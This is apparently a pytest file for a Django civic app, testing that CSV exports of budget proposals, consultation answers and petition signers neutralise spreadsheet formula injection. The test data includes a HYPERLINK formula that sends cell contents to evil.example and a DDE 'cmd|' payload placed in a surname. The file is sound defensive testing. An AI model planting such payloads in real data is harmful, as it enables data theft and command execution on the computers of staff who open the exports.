"""CSV formula injection: text users wrote never reaches an export as a live formula (issue 12).

Every export goes through civic/csv_export.py: `;`, a UTF-8 byte-order mark, and an apostrophe
in front of a text cell that starts with = + - @ tab or carriage return.
"""

import csv
import io

import pytest

from budgets.services.ballots import ballot_cast
from budgets.services.budgets import budget_transition
from budgets.services.export import ballots_pb, results_csv
from budgets.tally import parse_pb
from budgets.tests.factories import BudgetFactory, ProposalFactory
from civic.tests.factories import ResidentFactory
from commissions.selectors import consultation_results_csv
from commissions.services.consultations import (
    consultation_open,
    consultation_respond,
    question_add,
)
from commissions.tests.factories import ConsultationFactory
from petitions.services.signatures import signature_record_paper
from petitions.tests.factories import CitizenInitiativeFactory

pytestmark = pytest.mark.django_db

HOSTILE = '=HYPERLINK("http://evil.example/?"&A1;"Cliquez")'


def _cells(text: str) -> list[list[str]]:
    assert text.startswith("\ufeff"), "a byte-order mark first, for French spreadsheets"
    return list(csv.reader(io.StringIO(text.removeprefix("\ufeff")), delimiter=";"))


def _live_formulas(rows: list[list[str]]) -> list[str]:
    return [c for row in rows for c in row if c[:1] in ("=", "+", "@", "\t", "\r")
            or (c[:1] == "-" and not c.lstrip("-").replace(".", "").isdigit())]


@pytest.mark.parametrize("value", ["=1+1", "+33 6", "-2+3", "@SUM(A1)", "\tx", "\rx"])
def test_every_dangerous_first_character_is_neutralised(value):
    from civic.csv_export import safe_cell

    assert safe_cell(value) == "'" + value


@pytest.mark.parametrize("value", [-12, "-12.5", "1/3", "Parc", 0])
def test_numbers_and_plain_text_are_kept_as_they_are(value):
    from civic.csv_export import safe_cell

    assert safe_cell(value) == value


def test_a_proposal_titled_with_a_formula_reaches_results_csv_and_pb_as_text(
        neighbourhood, clerk, django_capture_on_commit_callbacks):
    # given a budget whose one project is titled with a formula, voted and counted
    budget = BudgetFactory(neighbourhood=neighbourhood, voting=True, rule="greedy",
                           envelope_cents=10_000_000, max_projects=None)
    project = ProposalFactory(budget=budget, feasible=True, cost_cents=500_000, title=HOSTILE)
    ballot_cast(budget=budget, voter=ResidentFactory(neighbourhood=neighbourhood).user,
                choices={project.pk: 1})
    with django_capture_on_commit_callbacks(execute=True):
        budget_transition(budget=budget, target="tally", actor=clerk)
    budget_transition(budget=budget, target="results", actor=clerk)
    # when both exports are made
    rows = _cells(results_csv(budget=budget))
    pb = ballots_pb(budget=budget)
    # then the title is there, as text, and the .pb is still a valid pabulib file
    assert rows[1][1] == "'" + HOSTILE
    assert _live_formulas(rows) == []
    names = [p.name for p in parse_pb(pb).projects]
    assert names == ["'" + HOSTILE]


def test_a_consultation_answer_written_as_a_formula_is_exported_as_text(clerk):
    # given an open consultation with a free-text question, answered with a formula
    consultation = ConsultationFactory(audience="town")
    remark = question_add(consultation=consultation, kind="text", label="Remarques",
                          actor=clerk)
    consultation_open(consultation=consultation, actor=clerk)
    consultation_respond(consultation=consultation, user=ResidentFactory().user,
                         answers={remark.pk: HOSTILE})
    # when the results are exported
    rows = _cells(consultation_results_csv(consultation=consultation))
    # then the answer is text
    assert ["Remarques", "text", "'" + HOSTILE, "1", ""] in rows
    assert _live_formulas(rows) == []


def test_a_signers_name_written_as_a_formula_is_exported_as_text(client, clerk):
    # given a paper signature by a resident whose name is a formula
    initiative = CitizenInitiativeFactory(collecting=True)
    signer = ResidentFactory(user__last_name="-2+3+cmd|' /C calc'!A0")
    signature_record_paper(initiative=initiative, resident=signer, recorded_by=clerk)
    client.force_login(clerk)
    # when the clerk exports the signatures
    response = client.get(f"/initiatives/agents/{initiative.pk}/signatures.csv")
    # then the name is text
    rows = _cells(response.content.decode())
    assert "'-2+3+cmd|' /C calc'!A0" in rows[1]
    assert _live_formulas(rows) == []
